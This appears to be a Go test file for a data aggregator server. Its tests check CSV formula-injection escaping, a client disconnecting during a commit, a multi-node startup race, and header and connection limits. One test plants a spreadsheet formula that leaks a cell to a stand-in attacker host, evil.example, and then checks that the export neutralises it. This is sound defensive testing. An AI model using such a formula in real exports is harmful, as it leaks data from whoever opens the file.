package aggregator_test

import (
	"bufio"
	"bytes"
	"context"
	"crypto/rand"
	"encoding/csv"
	"log/slog"
	"net"
	"net/http"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/wisp-project/wisp/aggregator"
	"github.com/wisp-project/wisp/aggregator/aggregatortest"
	"github.com/wisp-project/wisp/aggregator/store"
	"github.com/wisp-project/wisp/aggregator/store/storetest"
	"github.com/wisp-project/wisp/internal/campaign"
	"github.com/wisp-project/wisp/internal/wire"
)

// The tests in this file reproduce the attacks of issue 15 against a real
// server on 127.0.0.1, one per row.

// TestCSVFormulaInjection (row 6): a marketer names a campaign
// =HYPERLINK(…); whoever opens the CSV export in a spreadsheet must see
// text, not a live formula. Every text cell starting with = + - @ tab or CR
// gets a ' prefix (OWASP, CSV injection).
func TestCSVFormulaInjection(t *testing.T) {
	f := newFixture(t, func(c *aggregator.Config) { c.Policy.MinK = 1 })
	ctx := context.Background()
	evil := `=HYPERLINK("http://evil.example/?leak="&A1,"click")`
	c := campaign.Campaign{ID: "evil", Name: evil, Question: campaign.Question{Type: "threshold", Category: 410, MinScore: 0.5},
		Epsilon: 1, EpochSeconds: 3600, K: 1}
	if _, err := f.agg.CreateCampaign(ctx, c, "acme"); err != nil {
		t.Fatal(err)
	}
	f.campaign = c
	var batch []wire.Envelope
	for i := range 3 {
		batch = append(batch, f.report(t, i == 0))
	}
	f.upload(t, batch...)
	f.closeEpoch()
	f.releaseDue(t)
	for _, path := range []string{"/v1/campaigns/evil/results?format=csv", "/v1/segments?format=csv"} {
		status, body := f.do(t, "GET", path, f.operator, nil)
		rows, err := csv.NewReader(strings.NewReader(string(body))).ReadAll()
		if status != http.StatusOK || err != nil {
			t.Fatalf("%s: %d %v", path, status, err)
		}
		found := false
		for _, row := range rows[1:] {
			if row[0] != "evil" {
				continue
			}
			found = true
			if row[1] != "'"+evil {
				t.Errorf("%s: name cell %q, want it prefixed with '", path, row[1])
			}
			for i, cell := range row {
				if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) {
					t.Errorf("%s: cell %d %q starts a formula", path, i, cell)
				}
			}
		}
		if !found {
			t.Fatalf("%s: no row for the campaign: %s", path, body)
		}
	}
}

// logBuffer collects a server's JSON log lines.
type logBuffer struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (l *logBuffer) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.buf.Write(p)
}
func (l *logBuffer) String() string { l.mu.Lock(); defer l.mu.Unlock(); return l.buf.String() }

// withLog sends the server's logs, debug and up, to l.
func withLog(l *logBuffer) func(*aggregator.Config) {
	return func(c *aggregator.Config) {
		c.Logger = slog.New(slog.NewJSONHandler(l, &slog.HandlerOptions{Level: slog.LevelDebug}))
	}
}

// metric reads one series (name with its labels, as /metrics prints it)
// from the node's /metrics; absent is 0.
func (f *fixture) metric(t testing.TB, series string) float64 {
	t.Helper()
	_, b := f.do(t, "GET", "/metrics", "", nil)
	sc := bufio.NewScanner(bytes.NewReader(b))
	for sc.Scan() {
		if name, v, ok := strings.Cut(sc.Text(), " "); ok && name == series {
			x, err := strconv.ParseFloat(v, 64)
			if err != nil {
				t.Fatal(err)
			}
			return x
		}
	}
	return 0
}

// blockingStore holds every Insert until release is closed, and says on
// entered when one has started.
type blockingStore struct {
	store.Store
	entered chan struct{}
	release chan struct{}
}

func (b *blockingStore) Insert(ctx context.Context, reports []store.Report) ([]bool, error) {
	select {
	case b.entered <- struct{}{}:
	default:
	}
	<-b.release
	return b.Store.Insert(ctx, reports)
}

// TestClientGoneDuringCommit (row 9): a device that hangs up while its
// batch commits is not a store failure — no ERROR "store unavailable", no
// 503 in the metrics; it is logged at info and counted as client_closed.
func TestClientGoneDuringCommit(t *testing.T) {
	var logs logBuffer
	bs := &blockingStore{Store: sqliteStore(t), entered: make(chan struct{}, 1), release: make(chan struct{})}
	key, _ := wire.GenerateKeyPair(1, rand.Reader)
	f := newNode(t, bs, newClock(), withLog(&logs), func(c *aggregator.Config) {
		c.Keys = []*wire.KeyPair{key}
		c.Campaigns = []campaign.Campaign{runners}
	})
	// Batch a leads a group commit that the store holds; batch b waits
	// for the next group, and its device hangs up meanwhile.
	first := make(chan error, 1)
	a := []wire.Envelope{f.report(t, true)}
	go func() { _, err := f.client.Upload(context.Background(), a); first <- err }()
	<-bs.entered
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	batch := []wire.Envelope{f.report(t, true), f.report(t, false)}
	go func() { _, err := f.client.Upload(ctx, batch); done <- err }()
	time.Sleep(300 * time.Millisecond) // b is read, opened and waiting for the commit
	cancel()
	if err := <-done; err == nil {
		t.Fatal("upload succeeded after its context was cancelled")
	}
	deadline := time.Now().Add(10 * time.Second)
	for f.metric(t, `wisp_ingest_batches_total{status="client_closed"}`) != 1 {
		if time.Now().After(deadline) {
			t.Fatalf("no batch counted as client_closed; 503s: %v; logs:\n%s",
				f.metric(t, `wisp_ingest_batches_total{status="503"}`), logs.String())
		}
		time.Sleep(20 * time.Millisecond)
	}
	close(bs.release)
	if err := <-first; err != nil {
		t.Fatalf("the leading batch: %v", err)
	}
	if n := f.metric(t, `wisp_ingest_batches_total{status="503"}`); n != 0 {
		t.Errorf("%v batches counted as 503", n)
	}
	if strings.Contains(logs.String(), `"level":"ERROR"`) {
		t.Errorf("a client hanging up was logged as an error:\n%s", logs.String())
	}
	if !strings.Contains(logs.String(), "client closed") {
		t.Errorf("no info line for the closed client:\n%s", logs.String())
	}
	// The reports may have been committed after all: a resend meets them
	// as replays or stores them, never an error.
	resp := f.upload(t, batch...)
	if resp.Accepted+resp.Rejected != 2 {
		t.Fatalf("resend: %+v", resp)
	}
}

// TestNodesStartTogether (row 5): four nodes started at once on an empty
// PostgreSQL schema, ten times over. Each must start — none may lose the
// race for the first HPKE key or the signing seed — and all must end with
// the same keys and the same signing key.
func TestNodesStartTogether(t *testing.T) {
	const rounds, nodes = 10, 4
	for round := range rounds {
		spec := "postgres:" + storetest.PostgresDSN(t)
		servers := make([]*aggregator.Server, nodes)
		errs := make([]error, nodes)
		var wg sync.WaitGroup
		start := make(chan struct{})
		for i := range nodes {
			wg.Add(1)
			go func() {
				defer wg.Done()
				<-start
				st, err := store.Open(context.Background(), spec)
				if err != nil {
					errs[i] = err
					return
				}
				t.Cleanup(func() { st.Close() })
				servers[i], errs[i] = aggregator.New(aggregator.Config{Store: st, Taxonomy: mustTax(t), Tenant: "acme",
					Campaigns: []campaign.Campaign{runners}})
			}()
		}
		close(start)
		wg.Wait()
		for i, err := range errs {
			if err != nil {
				t.Fatalf("round %d: node %d did not start: %v", round, i, err)
			}
		}
		want, err := servers[0].KeyInfos(context.Background())
		if err != nil {
			t.Fatal(err)
		}
		for i, s := range servers {
			got, err := s.KeyInfos(context.Background())
			if err != nil {
				t.Fatal(err)
			}
			if len(got) != 1 || len(want) != 1 || got[0].ID != want[0].ID || !bytes.Equal(s.SigningKey(), servers[0].SigningKey()) {
				t.Fatalf("round %d: node %d has keys %+v and signing key %x; node 0 %+v and %x", round, i, got, s.SigningKey(), want, servers[0].SigningKey())
			}
		}
	}
}

// TestHeaderAndConnectionLimits (row 4): a request with a megabyte of
// headers is refused with 431 before the node buffers it, and connections
// beyond the cap wait to be accepted instead of each holding memory.
func TestHeaderAndConnectionLimits(t *testing.T) {
	f := newFixture(t)
	req, _ := http.NewRequest("GET", f.srv.URL+"/healthz", nil)
	req.Header.Set("X-Pad", strings.Repeat("a", 1_000_000))
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusRequestHeaderFieldsTooLarge {
		t.Fatalf("1 MB of headers: status %d, want 431", resp.StatusCode)
	}

	// At most MaxConns connections are served; the next one waits.
	const maxConns = 4
	srv := aggregatortest.StartHTTP(t, aggregator.Config{Store: sqliteStore(t), Taxonomy: mustTax(t)}, aggregator.HTTPOptions{MaxConns: maxConns}, nil)
	addr := strings.TrimPrefix(srv.URL, "http://")
	get := func(c net.Conn, wait time.Duration) (int, error) {
		c.SetReadDeadline(time.Now().Add(wait))
		resp, err := http.ReadResponse(bufio.NewReader(c), nil)
		if err != nil {
			return 0, err
		}
		resp.Body.Close()
		return resp.StatusCode, nil
	}
	dial := func() net.Conn {
		c, err := net.Dial("tcp", addr)
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { c.Close() })
		if _, err := c.Write([]byte("GET /healthz HTTP/1.1\r\nHost: wisp\r\n\r\n")); err != nil {
			t.Fatal(err)
		}
		return c
	}
	var held []net.Conn
	for range maxConns {
		c := dial()
		if status, err := get(c, 10*time.Second); err != nil || status != http.StatusOK {
			t.Fatalf("connection %d: %d %v", len(held), status, err)
		}
		held = append(held, c) // kept alive, idle
	}
	extra := dial()
	if status, err := get(extra, 700*time.Millisecond); err == nil {
		t.Fatalf("connection %d beyond the cap was served at once (status %d)", maxConns+1, status)
	}
	held[0].Close()
	if status, err := get(extra, 10*time.Second); err != nil || status != http.StatusOK {
		t.Fatalf("the waiting connection after one closed: %d %v", status, err)
	}
}
